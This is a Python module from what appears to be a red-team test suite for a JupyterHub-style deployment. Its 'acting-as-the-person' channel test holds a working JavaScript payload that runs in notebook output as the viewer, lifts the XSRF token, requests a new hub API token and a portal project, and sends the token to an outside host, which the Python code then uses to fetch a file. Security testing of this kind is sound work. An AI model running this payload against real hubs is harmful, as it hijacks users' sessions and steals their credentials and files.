from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.gallery import show
from tests.redteam.targets import Target

SCRIPT = """
(async () => {
  const user = %(user)r, outside = %(outside)r, told = value => fetch(outside + encodeURIComponent(value));
  const page = await (await fetch('/hub/home')).text();
  const xsrf = (page.match(/xsrf_token: *["']([^"']+)/) || [])[1] || '';
  for (const [path, body] of [['/hub/api/users/' + user + '/tokens', '{}'],
                              ['/services/portal/api/projects', '{"name": "carried"}']]) {
    const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
    const answer = await fetch(path, {method: 'POST', body, headers});
    if (answer.ok) told((await answer.json()).token || 'done');
  }
})();
"""


@channel(
    "acting-as-the-person",
    "A script in an output that acts as the person who sees it: an API token from the hub, a request to the portal",
    direction="reach",
    closed_by="wire filter: no scripts; a hub that gives no tokens",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.keep("acting.bin")
    mark = f"/acting/{secret.hex()}?"
    script = SCRIPT % {"user": site.user, "outside": site.outside.browser_url + mark}
    show(site, f"from IPython.display import Javascript\nJavascript({script!r})")
    heard = site.outside.hears(mark.encode(), 2) or b""
    token = heard.partition(mark.encode())[2].split(b" ")[0].decode()
    return secret if token == "done" else site.fetch_with(token, "files/acting.bin")
